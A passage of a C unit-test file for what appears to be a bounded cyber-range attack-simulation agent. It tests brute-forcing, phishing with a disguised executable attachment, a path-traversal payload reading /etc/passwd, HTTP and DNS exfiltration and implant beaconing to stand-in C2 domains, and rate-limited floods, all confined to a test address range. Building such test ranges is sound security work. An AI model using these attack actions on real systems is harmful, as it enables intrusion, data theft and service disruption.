                   "\"params\":{\"service\":\"ftp\",\"port\":2121,"
                   "\"users\":[\"hanako\",\"admin\"],\"passwords\":[\"password\","
                   "\"Spring2026!\",\"admin\"],\"attempts\":20,\"rate\":50},"
                   "\"target\":{\"addr\":\"" SRV_ADDR "\"}}");
    rep = srv_stop(&s);
    assert_true(x.r.succeeded);
    assert_string_equal(json_string_value(json_object_get(ev(&x, "found"),
                                                          "user")), "admin");
    assert_int_equal(ev_int(&x, "attempts"), 6);
    assert_int_equal(ev_int(&x, "rejected"), 5);
    assert_int_equal(count_substr(rep, "C: PASS "), 6);
    assert_int_equal(count_substr(rep, "C: QUIT"), 6);
    free(rep);
    run_done(&x);

    /* Nothing listening: errors, and it stops after 5 in a row. */
    run_action(&x, "{\"step\":\"lateral-ftp\",\"action\":\"cred.bruteforce\","
                   "\"params\":{\"service\":\"ftp\",\"port\":2122,"
                   "\"users\":[\"a\",\"b\",\"c\"],\"passwords\":[\"1\",\"2\","
                   "\"3\"],\"rate\":50},"
                   "\"target\":{\"addr\":\"" SRV_ADDR "\"}}");
    assert_false(x.r.succeeded);
    assert_int_equal(ev_int(&x, "errors"), 5);
    assert_int_equal(ev_int(&x, "attempts"), 5);
    assert_non_null(strstr(json_string_value(ev(&x, "last_error")),
                           "ECONNREFUSED"));
    run_done(&x);
}

static void test_phish_deliver(void **state)
{
    char *rep = NULL;
    srv s;
    run x;

    (void)state;
    if (!g.netns)
        skip();
    srv_start(&s, listen_tcp(SRV_ADDR, 2526), srv_smtp, "-");
    run_action(&x, "{\"step\":\"phish\",\"action\":\"phish.deliver\","
                   "\"params\":{\"mailbox\":\"hanako@example.test\","
                   "\"from\":\"hr@exarnple.test\",\"subject\":\"Revised bonus "
                   "table\",\"attachment\":\"bonus.xls.exe\",\"port\":2526,"
                   "\"link\":\"http://198.18.0.66/bonus\","
                   "\"body\":\".hidden line\\nsee attached\"},\"seed\":42,"
                   "\"target\":{\"addr\":\"" SRV_ADDR "\"}}");
    rep = srv_stop(&s);
    assert_int_equal(x.rc, 0);
    assert_true(x.r.succeeded);
    assert_non_null(strstr(rep, "C: MAIL FROM:<hr@exarnple.test>"));
    assert_non_null(strstr(rep, "C: RCPT TO:<hanako@example.test>"));
    assert_non_null(strstr(rep, "D: Subject: Revised bonus table"));
    assert_non_null(strstr(rep, "D: Content-Type: multipart/mixed"));
    assert_non_null(strstr(rep, "filename=\"bonus.xls.exe\""));
    assert_non_null(strstr(rep, "D: Content-Transfer-Encoding: base64"));
    /* "MZ" + random bytes, base64: starts with TV */
    assert_non_null(strstr(rep, "\nD: TV"));
    assert_non_null(strstr(rep, "D: http://198.18.0.66/bonus"));
    /* A leading dot is doubled on the wire. */
    assert_non_null(strstr(rep, "D: ..hidden line"));
    assert_non_null(strstr(x.r.detail, "queued as T1"));
    assert_string_equal(json_string_value(json_object_get(ev(&x, "attachment"),
                                                          "name")),
                        "bonus.xls.exe");
    free(rep);
    run_done(&x);
}

static void test_web_exploit(void **state)
{
    char *rep = NULL;
    srv s;
    run x;

    (void)state;
    if (!g.netns)
        skip();
    srv_start(&s, listen_tcp(SRV_ADDR, 8082), srv_traversal, NULL);
    run_action(&x, "{\"step\":\"exp\",\"action\":\"web.exploit\","
                   "\"params\":{\"kind\":\"traversal\",\"port\":8082,"
                   "\"path\":\"/cgi-bin/view.cgi\"},"
                   "\"target\":{\"addr\":\"" SRV_ADDR "\"}}");
    rep = srv_stop(&s);
    assert_true(x.r.succeeded);
    assert_non_null(strstr(rep, "REQ GET /cgi-bin/view.cgi?file=..%2F..%2F..%2F"
                                "..%2Fetc%2Fpasswd HTTP/1.1"));
    assert_non_null(strstr(json_string_value(ev(&x, "snippet")),
                           "root:x:0:0:"));
    assert_int_equal(ev_int(&x, "status"), 200);
    free(rep);
    run_done(&x);

    /* A payload that does not work: failed, with the status. */
    srv_start(&s, listen_tcp(SRV_ADDR, 8082), srv_traversal, NULL);
    run_action(&x, "{\"step\":\"exp\",\"action\":\"web.exploit\","
                   "\"params\":{\"kind\":\"traversal\",\"port\":8082,"
                   "\"path\":\"/cgi-bin/view.cgi\",\"payload\":\"welcome.txt\","
                   "\"requests\":2},"
                   "\"target\":{\"addr\":\"" SRV_ADDR "\"}}");
    rep = srv_stop(&s);
    assert_false(x.r.succeeded);
    assert_int_equal(count_substr(rep, "REQ "), 2);
    assert_int_equal(ev_int(&x, "requests"), 2);
    free(rep);
    run_done(&x);
}

static void test_exfil_http(void **state)
{
    char src[256], *rep = NULL, *p = NULL;
    FILE *f = NULL;
    srv s;
    run x;
    char req[1024];

    (void)state;
    if (!g.netns)
        skip();
    snprintf(src, sizeof(src), "%s/srv/share/finance", g.dir);
    assert_int_equal(sh("mkdir -p %s", src), 0);
    snprintf(src, sizeof(src), "%s/srv/share/finance/budget.csv", g.dir);
    f = fopen(src, "w");
    assert_non_null(f);
    fputs("dept,amount\nsales,120000\n", f);
    fclose(f);
    srv_start(&s, listen_tcp(SRV_ADDR, 8083), srv_http,
              "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok");
    snprintf(req, sizeof(req),
             "{\"step\":\"exfil\",\"action\":\"exfil\",\"params\":{"
             "\"channel\":\"http\",\"bytes\":100000,\"port\":8083,"
             "\"source\":\"/srv/share/finance\"},\"root\":\"%s\","
             "\"target\":{\"addr\":\"" SRV_ADDR "\"}}", g.dir);
    run_action(&x, req);
    rep = srv_stop(&s);
    assert_true(x.r.succeeded);
    assert_non_null(strstr(rep, "REQ POST /upload HTTP/1.1 BODY 100000"));
    p = strstr(rep, "DATA ==> /srv/share/finance/budget.csv <==\n"
                    "dept,amount\nsales,120000\n");
    assert_non_null(p);
    assert_int_equal(ev_int(&x, "bytes_sent"), 100000);
    assert_int_equal(ev_int(&x, "files"), 1);
    free(rep);
    run_done(&x);

    /* Through a proxy: absolute-form request line naming the C2 domain. */
    srv_start(&s, listen_tcp(SRV_ADDR, 3128), srv_http,
              "HTTP/1.1 403 Filtered\r\nServer: tinyproxy/1.11.1\r\n"
              "Content-Length: 0\r\n\r\n");
    run_action(&x, "{\"step\":\"exfil\",\"action\":\"exfil\",\"params\":{"
                   "\"channel\":\"http\",\"bytes\":5000,\"port\":8080,"
                   "\"proxy\":\"" SRV_ADDR ":3128\","
                   "\"domain\":\"update.exarnple.test\"},"
                   "\"target\":{\"addr\":\"198.18.0.66\"}}");
    rep = srv_stop(&s);
    assert_non_null(strstr(rep, "REQ POST http://update.exarnple.test:8080"
                                "/upload HTTP/1.1 BODY 5000"));
    /* The proxy refused: the C2 never answered. */
    assert_false(x.r.succeeded);
    assert_int_equal(ev_int(&x, "status"), 403);
    free(rep);
    run_done(&x);
}

static int hexval(char c)
{
    return c >= 'a' ? c - 'a' + 10 : c - '0';
}

static void test_exfil_dns(void **state)
{
    char *rep = NULL, *line = NULL, *save = NULL, data[4096];
    size_t dl = 0;
    srv s;
    run x;

    (void)state;
    if (!g.netns)
        skip();
    srv_start(&s, bind_udp(SRV_ADDR, 5353), srv_dns, NULL);
    run_action(&x, "{\"step\":\"dnsx\",\"action\":\"exfil\",\"params\":{"
                   "\"channel\":\"dns\",\"bytes\":400,\"port\":5353},"
                   "\"c2\":{\"addr\":\"198.18.0.66\","
                   "\"domain\":\"cdn-update.example.test\"},\"seed\":3,"
                   "\"target\":{\"addr\":\"" SRV_ADDR "\"}}");
    usleep(100000);
    rep = srv_stop(&s);
    assert_true(x.r.succeeded);
    assert_int_equal(ev_int(&x, "bytes_sent"), 400);
    assert_int_equal(ev_int(&x, "answers"), ev_int(&x, "queries"));
    /* Decode what the server saw: hex labels, then seq, then the domain;
     * every label within 63 characters. */
    for (line = strtok_r(rep, "\n", &save); line;
         line = strtok_r(NULL, "\n", &save)) {
        char *name = line + 2, *dom = strstr(name, ".cdn-update.example.test");
        char *lab = NULL, *s2 = NULL, *seq = NULL;
        assert_non_null(dom);
        *dom = '\0';
        seq = strrchr(name, '.');
        assert_non_null(seq);
        *seq = '\0';
        for (lab = strtok_r(name, ".", &s2); lab; lab = strtok_r(NULL, ".", &s2)) {
            size_t i, n = strlen(lab);
            assert_true(n <= 63);
            for (i = 0; i + 1 < n && dl < sizeof(data) - 1; i += 2)
                data[dl++] = (char)(hexval(lab[i]) << 4 | hexval(lab[i + 1]));
        }
    }
    assert_int_equal(dl, 400);
    /* Generated records: CSV lines. */
    data[dl] = '\0';
    assert_non_null(strstr(data, ",customer-"));
    free(rep);
    run_done(&x);
}

static void test_flood_udp_bounded(void **state)
{
    char *rep = NULL;
    srv s;
    run x;
    long long got;

    (void)state;
    if (!g.netns)
        skip();
    srv_start(&s, bind_udp(SRV_ADDR, 9999), srv_udp_count, NULL);
    run_action(&x, "{\"step\":\"flood\",\"action\":\"dos.flood\",\"params\":{"
                   "\"kind\":\"udp\",\"port\":9999,\"rate\":300,"
                   "\"duration\":\"1s\"},"
                   "\"target\":{\"addr\":\"" SRV_ADDR "\"}}");
    usleep(100000);
    rep = srv_stop(&s);
    got = (long long)strlen(rep);
    assert_true(x.r.succeeded);
    /* Never more than rate x duration. */
    assert_true(ev_int(&x, "packets_sent") <= 300);
    assert_true(ev_int(&x, "packets_sent") >= 200);
    assert_true(got <= 300 && got >= 200);
    assert_true(x.ms >= 900 && x.ms < 3000);
    free(rep);
    run_done(&x);
}

static void test_flood_syn_bounded(void **state)
{
    int raw, l;
    long long syns = 0, t0;
    run x;

    (void)state;
    if (!g.netns)
        skip();
    /* A second raw socket counts the SYNs that reach the target. */
    raw = socket(AF_INET, SOCK_RAW | SOCK_NONBLOCK, IPPROTO_TCP);
    assert_true(raw >= 0);
    {
        int big = 16 * 1024 * 1024;
        setsockopt(raw, SOL_SOCKET, SO_RCVBUFFORCE, &big, sizeof(big));
    }
    l = listen_tcp(SRV_ADDR, 8084);
    run_action(&x, "{\"step\":\"flood\",\"action\":\"dos.flood\",\"params\":{"
                   "\"kind\":\"syn\",\"port\":8084,\"rate\":200,"
                   "\"duration\":\"1s\"},"
                   "\"target\":{\"addr\":\"" SRV_ADDR "\"}}");
    t0 = now_ms();
    while (now_ms() - t0 < 200) {
        unsigned char b[1500];
        ssize_t n = recv(raw, b, sizeof(b), 0);
        size_t ihl;
        if (n < 0) {
            usleep(10000);
            continue;
        }
        ihl = (size_t)(b[0] & 15) * 4;
        if ((size_t)n >= ihl + 14 && (b[ihl + 2] << 8 | b[ihl + 3]) == 8084 &&
            (b[ihl + 13] & 0x12) == 0x02)
            syns++;
    }
    close(raw);
    close(l);
    assert_true(x.r.succeeded);
    assert_true(ev_int(&x, "packets_sent") <= 200);
    assert_true(ev_int(&x, "packets_sent") >= 150);
    assert_int_equal(syns, ev_int(&x, "packets_sent"));
    run_done(&x);
}

static void test_flood_http_bounded(void **state)
{
    char *rep = NULL;
    srv s;
    run x;

    (void)state;
    if (!g.netns)
        skip();
    srv_start(&s, listen_tcp(SRV_ADDR, 8085), srv_http, NULL);
    run_action(&x, "{\"step\":\"flood\",\"action\":\"dos.flood\",\"params\":{"
                   "\"kind\":\"http\",\"port\":8085,\"rate\":50,"
                   "\"duration\":\"1s\",\"path\":\"/search\"},"
                   "\"target\":{\"addr\":\"" SRV_ADDR "\"}}");
    usleep(100000);
    rep = srv_stop(&s);
    assert_true(ev_int(&x, "packets_sent") <= 50);
    assert_true(count_substr(rep, "REQ GET /search HTTP/1.1") <= 50);
    assert_true(count_substr(rep, "REQ GET /search HTTP/1.1") >= 30);
    free(rep);
    run_done(&x);
}

static void test_tool_transfer(void **state)
{
    char req[1024], path[256], *rep = NULL;
    struct stat st;
    srv s;
    run x;
    static char answer[4096];
    int n;

    (void)state;
    if (!g.netns)
        skip();
    n = snprintf(answer, sizeof(answer), "HTTP/1.1 200 OK\r\nContent-Length: "
                 "1000\r\n\r\n");
    memset(answer + n, 'A', 1000);
    answer[n + 1000] = '\0';
    srv_start(&s, listen_tcp(SRV_ADDR, 8086), srv_http, answer);
    snprintf(req, sizeof(req),
             "{\"step\":\"tool\",\"action\":\"tool.transfer\",\"params\":{"
             "\"path\":\"/tmp/.x/scan.sh\"},\"root\":\"%s\","
             "\"c2\":{\"addr\":\"" SRV_ADDR "\",\"port\":8086}}", g.dir);
    run_action(&x, req);
    rep = srv_stop(&s);
    assert_true(x.r.succeeded);
    assert_non_null(strstr(rep, "REQ GET /tools/scan.sh HTTP/1.1"));
    snprintf(path, sizeof(path), "%s/tmp/.x/scan.sh", g.dir);
    assert_int_equal(stat(path, &st), 0);
    assert_int_equal(st.st_size, 1000);
    free(rep);
    run_done(&x);

    /* More than `bytes`: refused, nothing left behind. */
    unlink(path);
    srv_start(&s, listen_tcp(SRV_ADDR, 8086), srv_http, answer);
    snprintf(req, sizeof(req),
             "{\"step\":\"tool\",\"action\":\"tool.transfer\",\"params\":{"
             "\"path\":\"/tmp/.x/scan.sh\",\"bytes\":500,"
             "\"url\":\"http://" SRV_ADDR ":8086/x\"},\"root\":\"%s\"}", g.dir);
    run_action(&x, req);
    rep = srv_stop(&s);
    assert_false(x.r.succeeded);
    assert_non_null(strstr(x.r.detail, "limit"));
    assert_int_equal(stat(path, &st), -1);
    free(rep);
    run_done(&x);
}

static void test_c2_beacon(void **state)
{
    char root[128], req[1024], implant[256], comm[64], procp[64];
    char *rep = NULL;
    long long pid;
    FILE *f = NULL;
    srv s;
    run x;

    (void)state;
    if (!g.netns)
        skip();
    snprintf(root, sizeof(root), "%s/pc", g.dir);
    assert_int_equal(sh("mkdir -p %s/run/cyrange", root), 0);
    snprintf(req, sizeof(req),
             "{\"step\":\"beacon\",\"action\":\"c2.beacon\",\"params\":{"
             "\"channel\":\"http\",\"interval\":\"1s\",\"count\":20,"
             "\"port\":8087,\"domain\":\"update.exarnple.test\"},"
             "\"root\":\"%s\",\"target\":{\"addr\":\"" SRV_ADDR "\"}}", root);
    /* No implant yet: the user has not opened the mail. */
    run_action(&x, req);
    assert_int_equal(x.rc, 0);
    assert_false(x.r.succeeded);
    assert_non_null(strstr(x.r.detail, "no implant on this host"));
    run_done(&x);

    snprintf(implant, sizeof(implant), "%s" ACT_IMPLANT_PATH, root);
    assert_int_equal(sh("mkdir -p $(dirname %s) && cp %s %s", implant, g.bin,
                        implant), 0);
    srv_start(&s, listen_tcp(SRV_ADDR, 8087), srv_http, NULL);
    run_action(&x, req);
    assert_int_equal(x.rc, 0);
    assert_true(x.r.succeeded);
    pid = ev_int(&x, "implant_pid");
    assert_true(pid > 1);
    assert_int_equal(json_integer_value(json_object_get(
                         ev(&x, "first_beacon"), "status")), 404);
    /* It runs on its own, named like a real implant. */
    snprintf(procp, sizeof(procp), "/proc/%lld/comm", pid);
    f = fopen(procp, "r");
    assert_non_null(f);
    assert_non_null(fgets(comm, sizeof(comm), f));
    fclose(f);
    assert_string_equal(comm, "updater\n");
    usleep(1300000); /* a second beacon */
    assert_int_equal(act_stop(root, "beacon"), 1);
    /* We are the subreaper of the daemon: it must be gone. */
    {
        long long t0 = now_ms();
        while (waitpid((pid_t)pid, NULL, WNOHANG) == 0 && now_ms() - t0 < 3000)
            usleep(10000);
    }
    assert_int_equal(kill((pid_t)pid, 0), -1);
    assert_int_equal(act_stop(root, "beacon"), 0);
    rep = srv_stop(&s);
    assert_non_null(strstr(rep, "REQ GET /beacon?id=pc-test&seq=1 HTTP/1.1"));
    assert_non_null(strstr(rep, "REQ GET /beacon?id=pc-test&seq=2 HTTP/1.1"));
    free(rep);
    run_done(&x);
}

static void test_c2_beacon_dns_and_proxy(void **state)
{
    char root[128], req[1024], *rep = NULL;
    srv s;
    run x;

    (void)state;
    if (!g.netns)
        skip();
    snprintf(root, sizeof(root), "%s/pc2", g.dir);
    assert_int_equal(sh("mkdir -p %s/tmp/.cache && cp %s %s" ACT_IMPLANT_PATH,
                        root, g.bin, root), 0);
    /* DNS: TXT queries for <seq>.<host>.<domain>. */
    srv_start(&s, bind_udp(SRV_ADDR, 5354), srv_dns, NULL);
    snprintf(req, sizeof(req),
             "{\"step\":\"dnsb\",\"action\":\"c2.beacon\",\"params\":{"
             "\"channel\":\"dns\",\"interval\":\"1s\",\"count\":2,"
             "\"port\":5354},\"c2\":{\"addr\":\"198.18.0.66\","
             "\"domain\":\"c2.example.test\"},"
             "\"root\":\"%s\",\"target\":{\"addr\":\"" SRV_ADDR "\"}}", root);
    run_action(&x, req);
    if (!x.r.succeeded)
        fail_msg("%s", x.r.detail);
    assert_string_equal(json_string_value(json_object_get(x.r.flows ?
                            json_array_get(x.r.flows, 0) : NULL, "proto")),
                        "udp");
    usleep(1500000); /* the second and last beacon; then it exits */
    rep = srv_stop(&s);
    assert_non_null(strstr(rep, "Q 1.pc-test.c2.example.test\n"));
    assert_non_null(strstr(rep, "Q 2.pc-test.c2.example.test\n"));
    /* count reached: the implant is gone and took its pid file along. */
    assert_int_equal(act_stop(root, "dnsb"), 0);
    free(rep);
    run_done(&x);

    /* HTTP through a proxy that refuses: absolute-form URI with the
     * domain; the proxy's 403 is not an answer from the C2. */
    srv_start(&s, listen_tcp(SRV_ADDR, 3129), srv_http,
              "HTTP/1.1 403 Filtered\r\nServer: tinyproxy/1.11.1\r\n"
              "Content-Length: 0\r\n\r\n");
    snprintf(req, sizeof(req),
             "{\"step\":\"pxb\",\"action\":\"c2.beacon\",\"params\":{"
             "\"channel\":\"http\",\"interval\":\"30s\",\"count\":1,"
             "\"proxy\":\"" SRV_ADDR ":3129\","
             "\"domain\":\"update.exarnple.test\"},"
             "\"root\":\"%s\",\"target\":{\"addr\":\"198.18.0.66\"}}", root);
    run_action(&x, req);
    rep = srv_stop(&s);
    assert_false(x.r.succeeded);
    assert_non_null(strstr(x.r.detail, "proxy answered HTTP 403"));
    assert_non_null(strstr(rep, "REQ GET http://update.exarnple.test/beacon?"
                                "id=pc-test&seq=1 HTTP/1.1"));
    free(rep);
    run_done(&x);
}

/* ---- the dispatcher, through the real agent ------------------------------ */

typedef struct agent_io {
    pid_t pid;
    int fd;
    proto_reader *rd;
} agent_io;

static void agent_io_start(agent_io *a)
{
    int sv[2];

    assert_int_equal(socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv), 0);
    a->pid = fork();
    assert_true(a->pid >= 0);
    if (a->pid == 0) {
        char log[128];
        int fd;
        snprintf(log, sizeof(log), "%s/agent.log", g.dir);
        fd = open(log, O_WRONLY | O_CREAT | O_APPEND, 0644);
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        if (fd >= 0)
            dup2(fd, 2);
        dup2(sv[1], 0);
        dup2(sv[1], 1);
        execl(g.bin, g.bin, "--channel", "-", "--root", g.dir, "--cmdline",
              "/dev/null", "--host", "pc", (char *)NULL);
        _exit(127);
    }
    close(sv[1]);
    a->fd = sv[0];
    a->rd = proto_reader_new(0);
    assert_non_null(a->rd);
}

static void agent_io_stop(agent_io *a)
{
    close(a->fd);
    waitpid(a->pid, NULL, 0);
    proto_reader_free(a->rd);
}

static void send_line(agent_io *a, const char *line)
{
    assert_true(write(a->fd, line, strlen(line)) == (ssize_t)strlen(line));
}

/* Sends line (unless NULL) and returns the reply to id (new reference),
 * skipping hellos and other replies. */
static json_t *agent_io_call(agent_io *a, long long id, const char *line,
                             int timeout_ms)
{
    long long end = now_ms() + timeout_ms;
    proto_err err;

    if (line != NULL)
        send_line(a, line);
    while (now_ms() < end) {
        const char *l = NULL;
        size_t len;
        struct pollfd p = {.fd = a->fd, .events = POLLIN};
        while (proto_reader_next(a->rd, &l, &len) == 1) {
            json_t *m = json_loadb(l, len, 0, NULL);
            if (json_integer_value(json_object_get(m, "id")) == id &&
                strcmp(json_string_value(json_object_get(m, "t")), "reply") == 0)
                return m;
            json_decref(m);
        }
        poll(&p, 1, 100);
        if (p.revents && proto_reader_read_fd(a->rd, a->fd, &err) == 0)
            break;
    }
    fail_msg("no reply to %lld", id);
    return NULL;
}

static void test_dispatch_through_agent(void **state)
{
    agent_io a;
    json_t *r = NULL;
    int l1;

    (void)state;
    agent_io_start(&a);
    r = agent_io_call(&a, 1, "{\"t\":\"action\",\"id\":1,\"step\":\"x\","
                             "\"action\":\"recon.nmap\"}\n", 5000);
    assert_true(json_is_false(json_object_get(r, "ok")));
    assert_non_null(strstr(json_string_value(json_object_get(r, "error")),
                           "unknown action"));
    json_decref(r);
    r = agent_io_call(&a, 2, "{\"t\":\"action\",\"id\":2,\"step\":\"x\","
                             "\"action\":\"recon.portscan\","
                             "\"params\":{\"ports\":\"22\"},"
                             "\"target\":{\"addr\":\"127.0.0.1\"}}\n", 5000);
    assert_true(json_is_false(json_object_get(r, "ok")));
    assert_non_null(strstr(json_string_value(json_object_get(r, "error")),
                           "outside 198.18.0.0/15"));
    json_decref(r);
    r = agent_io_call(&a, 3, "{\"t\":\"action_stop\",\"id\":3}\n", 5000);
    assert_true(json_is_true(json_object_get(r, "ok")));
    assert_int_equal(json_integer_value(json_object_get(r, "stopped")), 0);
    json_decref(r);
    if (g.netns) {
        /* A real scan, run by the agent's child process. */
        l1 = listen_tcp(SRV_ADDR, 2401);
        r = agent_io_call(&a, 4, "{\"t\":\"action\",\"id\":4,\"step\":\"scan\","
                                 "\"action\":\"recon.portscan\","
                                 "\"params\":{\"ports\":\"2400-2402\"},"
                                 "\"target\":{\"host\":\"web\",\"addr\":\""
                                 SRV_ADDR "\"},\"deadline_ms\":20000}\n",
                          20000);
        close(l1);
        assert_true(json_is_true(json_object_get(r, "ok")));
        assert_string_equal(json_string_value(json_object_get(r, "outcome")),
                            "succeeded");
        assert_true(json_array_has_int(json_object_get(
                        json_object_get(r, "evidence"), "open"), 2401));
        assert_int_equal(json_integer_value(json_object_get(r, "flows_total")),
                         3);
        assert_true(json_integer_value(json_object_get(r, "ended_ms")) >=
                    json_integer_value(json_object_get(r, "started_ms")));
        json_decref(r);
        /* A long flood, stopped by action_stop: the stop is answered, then
         * the action (killed). */
        send_line(&a, "{\"t\":\"action\",\"id\":5,\"step\":\"fl\","
                      "\"action\":\"dos.flood\",\"params\":{"
                      "\"kind\":\"udp\",\"port\":9,\"rate\":10,"
                      "\"duration\":\"5m\"},\"target\":{\"addr\":\""
                      SRV_ADDR "\"}}\n");
        usleep(300000);
        r = agent_io_call(&a, 6, "{\"t\":\"action_stop\",\"id\":6,"
                                 "\"step\":\"fl\"}\n", 5000);
        assert_int_equal(json_integer_value(json_object_get(r, "stopped")), 1);
        json_decref(r);
        r = agent_io_call(&a, 5, NULL, 5000);
        assert_true(json_is_false(json_object_get(r, "ok")));
        assert_non_null(strstr(json_string_value(json_object_get(r, "error")),
                               "stopped by action_stop"));
        json_decref(r);
    }
    agent_io_stop(&a);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_param_checks),
        cmocka_unit_test(test_request_refusals),
        cmocka_unit_test(test_bounds_and_timeouts),
        cmocka_unit_test(test_reply_build),
        cmocka_unit_test(test_flow_list_is_capped),
        cmocka_unit_test(test_portscan_connect),
        cmocka_unit_test(test_portscan_syn),
        cmocka_unit_test(test_bruteforce_http_basic),
        cmocka_unit_test(test_bruteforce_smtp),
        cmocka_unit_test(test_bruteforce_ftp),
        cmocka_unit_test(test_phish_deliver),
        cmocka_unit_test(test_web_exploit),
        cmocka_unit_test(test_exfil_http),
        cmocka_unit_test(test_exfil_dns),
        cmocka_unit_test(test_flood_udp_bounded),
        cmocka_unit_test(test_flood_syn_bounded),
        cmocka_unit_test(test_flood_http_bounded),
        cmocka_unit_test(test_tool_transfer),
        cmocka_unit_test(test_c2_beacon),
        cmocka_unit_test(test_c2_beacon_dns_and_proxy),
        cmocka_unit_test(test_dispatch_through_agent),
    };

    return cmocka_run_group_tests_name("actions", tests, group_setup,
                                       group_teardown);
}
